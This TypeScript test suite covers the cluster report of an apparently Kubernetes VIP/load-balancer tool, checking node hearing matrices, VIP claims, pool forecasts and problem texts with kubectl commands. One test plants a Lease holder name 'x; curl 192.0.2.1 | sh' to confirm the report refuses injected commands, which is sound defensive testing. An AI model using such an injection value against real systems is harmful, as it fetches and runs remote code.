// SPDX-License-Identifier: Apache-2.0

import { expect } from 'chai';
import { serviceOf } from '../ipam/testing/builders.ts';
import { MacAddress } from '../net/mac-address.ts';
import { ip } from '../net/testing.ts';
import type { NodeHealth, NodeState, SegmentState } from '../node-state/node-state.ts';
import type { KubeService } from '../service/kube-service.ts';
import { readCluster } from './cluster-facts.ts';
import { clusterReport } from './cluster-report.ts';
import type { ClusterReport, ProblemKind, Severity } from './model.ts';
import { SAMPLE_MS, type SampleOptions, sampleCluster, sampleVip } from './testing/sample-cluster.ts';

const MAC = MacAddress.fromBytes(Uint8Array.of(0, 0, 0x5e, 0, 0x53, 9)) ?? MacAddress.ZERO;
const BOTH = { hearing: 'both' } as const;

describe('clusterReport', () => {
  it('RM-01: tells of a cluster where all is well, in plain JSON', () => {
    const report = reportOf();
    expect(report.problems).to.deep.equal([]);
    expect(report.leader).to.deep.equal({ identity: 'controller-0', renewedMs: SAMPLE_MS - 1000, freshness: 'fresh' });
    expect(report.configuration).to.deep.equal({ from: 'ip-address-pools', problems: [] });
    expect(report.nodes.map(({ node, load, freshness }) => [node, load, freshness])).to.deep.equal(
      ['edge-1', 'edge-2', 'edge-3'].map((node) => [node, 2, 'fresh']),
    );
    expect(report.fenceMs).to.equal(150);
    const kinds = new Set(valuesIn(report).map((value) => value?.constructor.name));
    expect([...kinds].sort()).to.deep.equal(['Array', 'Boolean', 'Number', 'Object', 'String', undefined].sort());
  });

  it('RM-02: shows who hears whom as a matrix, and each side of a way that is one-way', () => {
    const { hearing } = reportOf({
      states: {
        'edge-1': { segments: [segment({ node: 'edge-2', hearing: 'one-way' }, { node: 'edge-3', ...BOTH })] },
        'edge-2': { segments: [segment({ node: 'edge-3', ...BOTH, way: 'udp' })] },
        'edge-3': { segments: [segment({ node: 'edge-1', hearing: 'lost' }, { node: 'edge-2', ...BOTH })] },
      },
    });
    expect(hearing.map((one) => [one.interface, one.nodes])).to.deep.equal([['lan0', ['edge-1', 'edge-2', 'edge-3']]]);
    expect(hearing[0]?.cells.map((row) => row.map(({ state }) => state))).to.deep.equal([
      ['self', 'one-way', 'both'],
      ['deaf', 'self', 'both'],
      ['lost', 'both', 'self'],
    ]);
    expect(hearing[0]?.cells[1]?.[2]?.way).to.equal('udp');
  });

  it('RM-02: shows nodes of the cluster alone: one report cannot make a matrix of hundreds that there are not', () => {
    const others = Array.from({ length: 800 }, (_, index) => ({ node: `n${index}`, ...BOTH }));
    const segments = Array.from({ length: 30 }, (_, index) => ({ ...segment(...others), interface: `lan${index}` }));
    const { hearing } = reportOf({ states: { 'edge-1': { segments } } });
    expect(hearing).to.have.length(30);
    expect(hearing.every(({ nodes }) => nodes.every((node) => node.startsWith('edge-')))).to.equal(true);
  });

  it('DB-21: puts no name into a command that the API server would not take as one of a node', () => {
    const objects = sampleCluster();
    const [lease] = objects.leases;
    if (lease === undefined) throw new Error('want a Lease');
    const spec = { ...lease.spec, holderIdentity: 'x; curl 192.0.2.1 | sh', renewTime: '2026-01-01T00:00:00.000000Z' };
    const bad = { ...lease, metadata: { ...lease.metadata, name: 'planted' }, spec };
    const { problems } = clusterReport(readCluster({ ...objects, leases: [...objects.leases, bad] }));
    expect(problems.map(({ nodes, command }) => [nodes, command])).to.deep.equal([
      [['planted'], 'kubectl -n berth-system get pods -o wide --field-selector spec.nodeName=planted'],
      [['planted'], undefined],
    ]);
  });

  it('says nothing for a node whose Lease is silent: others tell of it alone', () => {
    const { hearing, nodes } = reportOf({ silent: ['edge-3'] });
    expect(hearing[0]?.cells.at(2)?.map(({ state }) => state)).to.deep.equal(['unknown', 'unknown', 'self']);
    expect(nodes[2]).to.include({ node: 'edge-3', freshness: 'stale', seenMs: SAMPLE_MS - 600_000 });
  });

  it('RM-03: tells of each VIP its Services, owner, since when, why, who serves it and whether it is reached', () => {
    const moved = { from: 'edge-2', cause: 'silent', unansweredMs: 131 } as const;
    const owned = {
      vip: sampleVip(1),
      interface: 'lan0',
      term: 2,
      sinceSeconds: 1000,
      why: 'orphaned',
      moved,
    } as const;
    const { vips } = reportOf({ vips: 2, nodes: 2, states: { 'edge-1': { owned: [owned] }, 'edge-2': { owned: [] } } });
    expect(vips[1]).to.deep.equal({
      ...{ vip: '198.18.0.2', family: 'IPv4', services: ['ns-0/s-1'], pool: 'lan', servedBy: 'any' },
      claims: [
        {
          ...{
            node: 'edge-1',
            interface: 'lan0',
            term: 2,
            sinceMs: 1_000_000,
            why: 'orphaned',
            isOutside: false,
            moved,
          },
          whyText: 'its owner was gone: edge-2 fell silent; no one answered for 131 ms',
        },
      ],
      ...{ reachable: 'yes', reachableText: '', silent: undefined },
    });
    expect(vips[0]).to.deep.include({
      vip: '198.18.0.1',
      claims: [],
      silent: 'edge-1 could answer and does not yet, edge-2 could answer and does not yet',
    });
  });

  it('shows a VIP that a node answers for although no Service has it', () => {
    const owned = { vip: ip('198.18.0.99'), interface: 'lan0', term: 1, sinceSeconds: 1, why: 'new' } as const;
    const { vips } = reportOf({ vips: 1, states: { 'edge-2': { owned: [owned] } } });
    expect(vips.map(({ vip, services }) => [vip, services])).to.deep.equal([
      ['198.18.0.1', ['ns-0/s-0']],
      ['198.18.0.99', []],
    ]);
  });

  it('RM-04: tells how full pools are and when they will be full, with numbers of any size as text', () => {
    const pools = poolsOf('198.18.0.1-198.18.0.20', '2001:db8::/64');
    const report = reportOf({ vips: 6, pools });
    expect(report.pools).to.deep.equal([
      {
        ...{ pool: 'lan', family: 'IPv4', addresses: ['198.18.0.1-198.18.0.20'], total: '20', used: '6', cooling: '0' },
        ...{ quarantined: '0', free: '14', fill: 0.3 },
        // Six in the last six days: one a day.
        forecast: { trend: 'filling', given: 6, days: 6, fullAtMs: SAMPLE_MS + 14 * 86_400_000 },
      },
      {
        ...{ pool: 'lan', family: 'IPv6', addresses: ['2001:db8::/64'], total: '18446744073709551616', used: '0' },
        ...{ cooling: '0', quarantined: '0', free: '18446744073709551616', fill: 0 },
        forecast: { trend: 'steady', given: 0, days: 6, fullAtMs: undefined },
      },
    ]);
  });

  const rows: {
    name: string;
    sample: SampleOptions;
    kind: ProblemKind;
    severity: Severity;
    text: string;
    command?: string;
  }[] = [
    {
      name: 'a way that is one-way',
      sample: { states: { 'edge-1': { segments: [segment({ node: 'edge-2', hearing: 'one-way' })] } } },
      ...{ kind: 'one-way', severity: 'warning', command: 'kubectl berth check' },
      text: 'edge-1: hears edge-2 on lan0, but edge-2 does not hear edge-1',
    },
    {
      name: 'a stranger',
      sample: {
        states: {
          'edge-1': {
            conflicts: [{ vip: sampleVip(0), interface: 'lan0', mac: MAC, sinceSeconds: 60, kind: 'in-use' }],
          },
        },
      },
      ...{ kind: 'conflict', severity: 'critical', command: 'kubectl berth check 198.18.0.1' },
      text: 'edge-1: 198.18.0.1 is used by 00:00:5e:00:53:09 on lan0 since 1970-01-01T00:01:00Z, while it is announced',
    },
    {
      name: 'a drained node, and what ends it',
      sample: { states: { 'edge-1': { ineligible: 'drained' } } },
      ...{ kind: 'node-ineligible', severity: 'info', command: 'kubectl berth undrain edge-1' },
      text: 'edge-1: may own nothing: drained',
    },
    {
      name: 'a cordoned node, and what ends it',
      sample: { states: { 'edge-1': { ineligible: 'cordoned' } } },
      ...{ kind: 'node-ineligible', severity: 'info', command: 'kubectl uncordon edge-1' },
      text: 'edge-1: may own nothing: cordoned',
    },
    {
      name: 'a Node without a speaker',
      sample: { absent: ['edge-3'] },
      ...{ kind: 'node-without-speaker', severity: 'info' },
      command: 'kubectl -n berth-system get pods -o wide --field-selector spec.nodeName=edge-3',
      text: 'no speaker reports from node edge-3',
    },
    {
      name: 'a cluster without speakers',
      sample: { nodes: 1, vips: 0, absent: ['edge-1'] },
      ...{ kind: 'no-speaker', severity: 'critical', command: 'kubectl -n berth-system get pods -o wide' },
      text: 'no speaker reports',
    },
    {
      name: 'a cluster without a leader',
      sample: { leader: 'gone' },
      ...{ kind: 'no-leader', severity: 'warning', command: 'kubectl -n berth-system get pods -o wide' },
      text: 'no controller leads: no Service gets an address; VIPs that are announced stay so',
    },
    {
      name: 'a configuration that is refused',
      sample: { vips: 0, pools: poolsOf('192.0.2.9-192.0.2.1') },
      ...{ kind: 'configuration-refused', severity: 'warning' },
      command: 'kubectl -n berth-system edit configmap ip-address-pools',
      text: 'the configuration is refused, no pools are in force: pools.yaml:',
    },
    {
      name: 'a pool that is full',
      sample: { vips: 6, pools: poolsOf('198.18.0.1-198.18.0.6') },
      ...{ kind: 'pool-full', severity: 'warning', command: 'kubectl berth pools' },
      text: 'pool lan has no free IPv4 address: 6 of 6 are used',
    },
    {
      name: 'a pool that is nearly full, and when it will be',
      sample: { vips: 19, pools: poolsOf('198.18.0.1-198.18.0.20') },
      ...{ kind: 'pool-nearly-full', severity: 'info', command: 'kubectl berth pools' },
      text: 'pool lan has 1 free IPv4 addresses of 20; full on 2026-12-01 at this pace',
    },
    {
      name: 'a Service without an address',
      sample: { services: [waiting()] },
      ...{ kind: 'no-address', severity: 'warning', command: 'kubectl berth explain shop/late' },
      text: 'shop/late has no address: PoolExhausted: pool lan has no free address',
    },
    {
      name: 'Services that wait for the same reason, as one',
      sample: { services: [waiting(), waiting('later')] },
      ...{ kind: 'no-address', severity: 'warning', command: 'kubectl berth explain shop/late' },
      text: '2 Services, shop/late first, have no address: PoolExhausted: pool lan has no free address',
    },
    {
      name: 'VIPs that nobody answers for, as one',
      sample: { vips: 4, states: { 'edge-1': { owned: [] }, 'edge-2': { owned: [] }, 'edge-3': { owned: [] } } },
      ...{ kind: 'not-announced', severity: 'critical', command: 'kubectl berth explain ns-0/s-0' },
      text: '4 VIPs, 198.18.0.1 first, are answered by no one: edge-1 could answer and does not yet, edge-2 could answer and does not yet, edge-3 could answer and does not yet',
    },
  ];
  for (const { name, sample, kind, severity, text, command } of rows)
    it(`RM-05: tells of ${name}, with its runbook and a command`, () => {
      const found = reportOf(sample).problems.filter((problem) => problem.kind === kind);
      expect(found.map((one) => one.severity)).to.deep.equal([severity]);
      expect(found[0]?.text.startsWith(text), found[0]?.text).to.equal(true);
      expect(found[0]?.command).to.equal(command);
      expect(found[0]?.runbook).to.match(/^docs\/runbooks\/[A-Za-z-]+\.md$/);
    });

  const apply = 'kubectl apply -f my-pools.yaml';
  const migrate = 'kubectl berth migrate metallb';
  for (const { name, word, vips, command, severity } of [
    { name: 'a missing configuration', word: 'NoCrds', vips: 1, command: apply, severity: 'critical' },
    { name: 'the same without any Service', word: 'NoCrds', vips: 0, command: apply, severity: 'warning' },
    { name: 'the same beside a MetalLB at work', word: 'MetallbRuns', vips: 1, command: migrate, severity: 'info' },
  ])
    it(`RM-05, DR-14: tells of ${name}, with a command that can be run`, () => {
      const status = { metadata: { name: 'pool-status' }, data: { config: 'Missing', metallb: word } };
      const problems = clusterReport(readCluster({ ...sampleCluster({ vips }), configMaps: [status] })).problems;
      const [found] = problems.filter(({ kind }) => kind === 'no-configuration');
      expect([found?.severity, found?.command]).to.deep.equal([severity, command]);
      expect(found?.text).to.include('there is no configuration in force: ConfigMap ip-address-pools is missing');
    });

  it('gives a problem the same id as long as it is the same, and two of a kind different ones', () => {
    const late = (lapses: number) => ({
      healths: { 'edge-1': lapsed(lapses), 'edge-2': lapsed(lapses) },
    });
    const ids = (sample: SampleOptions) => reportOf(sample).problems.map(({ id }) => id);
    expect(ids(late(1))).to.deep.equal(['heartbeats-late edge-1', 'heartbeats-late edge-2']);
    expect(ids(late(7))).to.deep.equal(ids(late(1)));
  });

  const lapses: { name: string; health: NodeHealth; text?: string; severity?: string }[] = [
    {
      name: 'one a minute ago',
      health: lapsed(1),
      text: 'edge-1: stopped answering once at 2026-11-30T09:59:00Z: its heartbeats were late',
      severity: 'warning',
    },
    {
      name: 'some of several within the last hour',
      health: { ...lapsed(3), lapsedSeconds: [7200, 1800, 60].map((ago) => SAMPLE_MS / 1000 - ago) },
      text: 'edge-1: stopped answering 2 times within the last hour, last at 2026-11-30T09:59:00Z: its heartbeats were late',
      severity: 'warning',
    },
    {
      name: 'more than a node tells the times of',
      health: lapsed(40),
      text: 'edge-1: stopped answering at least 16 times within the last hour, last at 2026-11-30T09:59:00Z: its heartbeats were late',
      severity: 'warning',
    },
    { name: 'one more than an hour ago', health: { ...lapsed(1), lapsedSeconds: [SAMPLE_MS / 1000 - 3600] } },
    {
      name: 'those of an older speaker, at a time that it does not tell',
      health: { latestMs: 9, lapses: 2 },
      text: 'edge-1: stopped answering 2 times since its speaker started: its heartbeats were late',
      severity: 'info',
    },
  ];
  for (const { name, health, text, severity } of lapses)
    it(`CL-17: counts lapses while they are recent: ${name}`, () => {
      const found = reportOf({ healths: { 'edge-1': health } }).problems;
      expect(found.map((one) => [one.text, one.severity])).to.deep.equal(text === undefined ? [] : [[text, severity]]);
    });

  it('CL-17: tells of every node when it fell silent last', () => {
    const { nodes } = reportOf({ healths: { 'edge-1': lapsed(3), 'edge-2': { latestMs: 9, lapses: 2 } } });
    expect(nodes.map(({ lapses: count, lapsedMs }) => [count, lapsedMs])).to.deep.equal([
      [3, SAMPLE_MS - 60_000],
      [2, undefined],
      [0, undefined],
    ]);
  });

  it('puts the most severe problem first', () => {
    const severities = reportOf({
      absent: ['edge-3'],
      healths: { 'edge-1': lapsed(1) },
      states: { 'edge-2': { segments: [{ ...segment(), contact: 'cut-off' }] } },
    }).problems.map(({ severity }) => severity);
    expect(severities).to.deep.equal(['critical', 'warning', 'info']);
  });
});

function reportOf(sample: SampleOptions = {}): ClusterReport {
  return clusterReport(readCluster(sampleCluster(sample)));
}

/** Lapses a minute ago. */
function lapsed(lapses: number): NodeHealth {
  return { latestMs: 9, lapses, lapsedSeconds: Array<number>(Math.min(lapses, 16)).fill(SAMPLE_MS / 1000 - 60) };
}

function segment(...members: SegmentState['members']): NodeState['segments'][number] {
  return { interface: 'lan0', mac: MAC, phase: 'active', members, answer: 'engine' };
}

function poolsOf(...addresses: string[]): string {
  return JSON.stringify({
    apiVersion: 'berth.dev/v1',
    kind: 'IPAddressPool',
    metadata: { name: 'lan' },
    spec: { addresses },
  });
}

function waiting(name = 'late'): KubeService {
  const service = serviceOf(name);
  const condition = {
    type: 'berth.dev/AddressAssigned',
    status: 'False',
    reason: 'PoolExhausted',
    message: 'pool lan has no free address',
    lastTransitionTime: '2026-11-30T09:00:00Z',
  } as const;
  return { ...service, status: { conditions: [condition] } };
}

function valuesIn(value: unknown): (object | string | number | boolean | undefined)[] {
  if (typeof value !== 'object' || value === null) return [value as string | number | boolean | undefined];
  return [value, ...Object.values(value).flatMap(valuesIn)];
}
